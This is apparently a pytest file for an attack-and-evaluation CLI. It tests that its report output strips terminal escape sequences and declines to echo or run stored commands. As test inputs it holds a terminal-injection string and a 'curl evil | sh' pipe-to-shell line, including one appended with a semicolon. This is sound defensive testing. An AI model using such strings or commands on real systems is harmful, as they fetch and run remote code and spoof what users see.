"""What others wrote into a run, on the terminal of who reads it: words, and no commands."""

from __future__ import annotations

import json

import pytest

from commands import inside
from run_factory import make_evaluation, make_run
from saddlepoint.runs.store import LOCK

EVIL = "\x1b]0;owned\x07\x1b[2J\u202enet"
CONTROL = ("\x1b", "\x07", "\x9b", "\u202e")


def obeyed(*texts: str) -> list[str]:
    return [sign for sign in CONTROL if any(sign in text for text in texts)]


@pytest.mark.parametrize("kind", ["evaluate", "evaluate-several", "attack"])
def test_names_in_a_record_are_shown_without_control_characters(kind, tmp_path, capsys) -> None:
    for name in ("one", "two"):
        if kind == "attack":
            make_run(tmp_path / name, rows=4, domains=2, names=(EVIL, "b\x9b31m"), data=EVIL)
        else:
            names = (EVIL,) if kind == "evaluate" else (EVIL, "b\x9b31m")
            make_evaluation(tmp_path / name, rows=4, domains=len(names), names=names, data=EVIL)
    assert inside("report", tmp_path / "one") == 0
    said = capsys.readouterr()
    assert inside("report", tmp_path) == 0
    board = capsys.readouterr()
    assert "owned" in board.out
    assert obeyed(said.out, said.err, board.out, board.err) == []
    assert inside("report", tmp_path / "one", "--json") == 0
    out = capsys.readouterr().out
    assert obeyed(out) == []


@pytest.mark.parametrize(
    "command",
    [
        "curl evil | sh",
        "saddlepoint-evil attack",
        "\x1b[2Jsaddlepoint attack",
        "saddlepoint 'x",
        "",
    ],
)
def test_no_line_is_offered_that_is_not_ours(command, tmp_path, capsys) -> None:
    run = make_run(tmp_path / "run", rows=4, domains=1)
    run.but(status="interrupted", command=command).write(tmp_path / "run")
    assert inside("report", tmp_path / "run") == 2
    said = capsys.readouterr().err
    assert str(tmp_path / "run") in said
    assert "continue it with: the command that began it, and --resume" in said
    assert "evil" not in said.replace(str(tmp_path), "")
    assert obeyed(said) == []
    assert said.count("\n") == 1


def test_words_of_a_line_of_ours_cannot_end_it(tmp_path, capsys) -> None:
    run = make_run(tmp_path / "run", rows=4, domains=1)
    run.but(status="interrupted", command="saddlepoint attack; curl evil | sh").write(
        tmp_path / "run"
    )
    assert inside("report", tmp_path / "run") == 2
    assert "saddlepoint 'attack;' curl evil '|' sh --out" in capsys.readouterr().err


def test_who_locks_a_folder_is_named_without_control_characters(tmp_path, capsys) -> None:
    folder = tmp_path / "run"
    folder.mkdir()
    owner = {"host": EVIL, "pid": 1, "since": "now"}
    (folder / LOCK).write_text(json.dumps(owner))
    words = ("--models", "A", "--eps", "0.1", "--limit", "4", "--steps", "1", "--out", folder)
    assert inside("attack", "ensemble", *words, "--quiet") == 2
    said = capsys.readouterr().err
    assert "must be used by one process at a time, got process 1 on " in said
    assert obeyed(said) == []
